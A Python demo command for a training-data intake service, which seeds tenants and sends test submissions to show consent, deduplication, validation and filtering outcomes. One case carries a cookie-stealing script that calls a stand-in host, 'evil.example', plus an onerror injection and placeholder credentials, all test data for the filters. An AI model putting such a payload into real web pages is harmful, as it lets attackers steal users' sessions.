"""`intake demo`: seed a demo tenant, run a worker, send one of every case and show the outcomes."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import uuid
from typing import Any

import typer
from rich.console import Console
from rich.table import Table
from sqlalchemy import select, text
from sqlalchemy.orm import Session

from producers.contract import QUEUE, QUEUES, SUBMIT_TASK, new_submission_id
from worker.models import SkillFeedback

DEMO_SEED = """
INSERT INTO tenants (id, name, slug, is_active) VALUES
  ('demo-tenant', 'Demo Co', 'demo', true),
  ('demo-tenant-off', 'Capture-off Co', 'demo-off', true)
ON CONFLICT DO NOTHING;
INSERT INTO users (id, tenant_id, email, name, image) VALUES
  ('demo-alice', 'demo-tenant', 'alice@demo.example', 'Alice Author', '/avatars/alice.png'),
  ('demo-bob', 'demo-tenant', 'bob@demo.example', 'Bob NoConsent', NULL),
  ('demo-carol', 'demo-tenant-off', 'carol@demo.example', 'Carol Elsewhere', NULL)
ON CONFLICT DO NOTHING;
INSERT INTO skills (id, tenant_id, name, slug, author_id) VALUES
  ('demo-skill', 'demo-tenant', 'SQL helper', 'sql-helper', 'demo-alice'),
  ('demo-skill-off', 'demo-tenant-off', 'Shell helper', 'shell-helper', 'demo-carol')
ON CONFLICT DO NOTHING;
INSERT INTO site_settings (id, tenant_id, training_data_capture_enabled) VALUES
  ('demo-settings', 'demo-tenant', true),
  ('demo-settings-off', 'demo-tenant-off', false)
ON CONFLICT DO NOTHING;
INSERT INTO user_preferences (id, tenant_id, user_id, preferences) VALUES
  ('demo-prefs-alice', 'demo-tenant', 'demo-alice', '{"trainingDataConsent": true}'),
  ('demo-prefs-carol', 'demo-tenant-off', 'demo-carol', '{"trainingDataConsent": true}')
ON CONFLICT DO NOTHING;
"""


def seed(session: Session) -> None:
    for statement in DEMO_SEED.split(";"):
        if statement.strip():
            session.execute(text(statement))


def _cases() -> list[tuple[str, dict[str, Any]]]:
    event = uuid.uuid4().hex[:12]
    golden = {"tenant_id": "demo-tenant", "skill_id": "demo-skill"}
    usage = {"tenant_id": "demo-tenant", "skill_id": "demo-skill", "kind": "usage_capture"}
    return [
        (
            "golden example by the author",
            {
                **golden,
                "user_id": "demo-alice",
                "example_input": "Count users per tenant",
                "quality_score": 9,
                "example_output": "SELECT tenant_id, count(*) FROM users GROUP BY 1;",
            },
        ),
        (
            "golden example by a non-author",
            {**golden, "user_id": "demo-bob", "example_input": "hi", "example_output": "hello"},
        ),
        (
            "usage capture with consent",
            {
                **usage,
                "user_id": "demo-alice",
                "usage_event_id": f"evt-{event}-1",
                "example_input": "if (x<y && y>z) return;",
                "example_output": "The condition holds when y is between x and z.",
            },
        ),
        (
            "same usage event again",
            {
                **usage,
                "user_id": "demo-alice",
                "usage_event_id": f"evt-{event}-1",
                "example_input": "again",
                "example_output": "again",
            },
        ),
        (
            "usage capture without consent",
            {
                **usage,
                "user_id": "demo-bob",
                "usage_event_id": f"evt-{event}-2",
                "example_input": "private",
                "example_output": "x",
            },
        ),
        (
            "usage capture, tenant capture off",
            {
                "tenant_id": "demo-tenant-off",
                "skill_id": "demo-skill-off",
                "kind": "usage_capture",
                "user_id": "demo-carol",
                "usage_event_id": f"evt-{event}-3",
                "example_input": "ls -la 2>&1",
                "example_output": "total 0",
            },
        ),
        (
            "a secret in the text",
            {
                **usage,
                "user_id": "demo-alice",
                "usage_event_id": f"evt-{event}-4",
                "example_input": "connect with postgres://app:s3cr3t-pw@db.internal/app",
                "example_output": "export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE",
            },
        ),
        (
            "an HTML attack",
            {
                **usage,
                "user_id": "demo-alice",
                "usage_event_id": f"evt-{event}-5",
                "example_input": 'Render <img src=x onerror="alert(1)"> please',
                "example_output": "<script>fetch('//evil.example/?c='+document.cookie)</script>",
            },
        ),
        (
            "unknown skill",
            {
                **golden,
                "skill_id": "no-such-skill",
                "user_id": "demo-alice",
                "example_input": "a",
                "example_output": "b",
            },
        ),
    ]


def _stored_excerpt(session: Session, submission_id: str) -> str:
    row = session.scalar(select(SkillFeedback).where(SkillFeedback.id == submission_id))
    if row is None:
        return ""
    stored = f"{row.example_input} -> {row.example_output}"
    return stored if len(stored) <= 70 else stored[:67] + "..."


def demo(
    timeout: float = typer.Option(60.0, help="Seconds to wait for each outcome."),
) -> None:
    """Seed a demo tenant, start a worker, enqueue one of every case and print the outcomes."""
    from producers import IntakeClient
    from worker import migrate
    from worker.db import session_factory
    from worker.runtime import prepare

    console = Console()
    runtime = prepare()
    migrate.upgrade()
    factory = session_factory()
    with factory() as session, session.begin():
        seed(session)

    console.print(f"[dim]{runtime.describe()}[/dim]")
    worker = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "celery",
            "-A",
            "worker.app",
            "worker",
            "--queues",
            ",".join(QUEUES),
            "--concurrency",
            "1",
            "--loglevel",
            "WARNING",
            "--without-gossip",
            "--without-mingle",
        ],
        env=os.environ.copy(),
    )
    sent: list[tuple[str, str]] = []
    try:
        with IntakeClient(runtime.settings.broker_url) as client:
            for label, fields in _cases():
                kind = fields.pop("kind", "golden_example")
                submission = {"submission_id": new_submission_id(), "kind": kind, **fields}
                sent.append((label, client.submit(submission)))
            first_id = sent[0][1]
            # A retry of the very same submission: same id, so still one row.
            client.submit(
                {**dict(_cases()[0][1]), "submission_id": first_id, "kind": "golden_example"}
            )
            sent.append(("the first one resent (same id)", first_id))
            bad_id = new_submission_id()
            # Bypass the client's validation to show the worker's own.
            client._app.send_task(
                SUBMIT_TASK,
                queue=QUEUE,
                kwargs={
                    "submission": {
                        "submission_id": bad_id,
                        "kind": "golden_example",
                        "tenant_id": "demo-tenant",
                        "user_id": "demo-alice",
                        "skill_id": "demo-skill",
                        "example_input": "",
                        "example_output": "x",
                        "quality_score": 42,
                    }
                },
            )
            sent.append(("an invalid payload", bad_id))

            table = Table(title="training-intake demo")
            for column in ("case", "submission", "outcome", "reason", "stored"):
                table.add_column(column)
            with factory() as session:
                for label, submission_id in sent:
                    status = client.wait(submission_id, timeout=timeout)
                    table.add_row(
                        label,
                        submission_id[:8],
                        status.outcome or "-",
                        status.reason or "",
                        _stored_excerpt(session, submission_id),
                    )
        console.print(table)
    finally:
        worker.send_signal(signal.SIGTERM)
        try:
            worker.wait(timeout=30)
        except subprocess.TimeoutExpired:
            worker.kill()
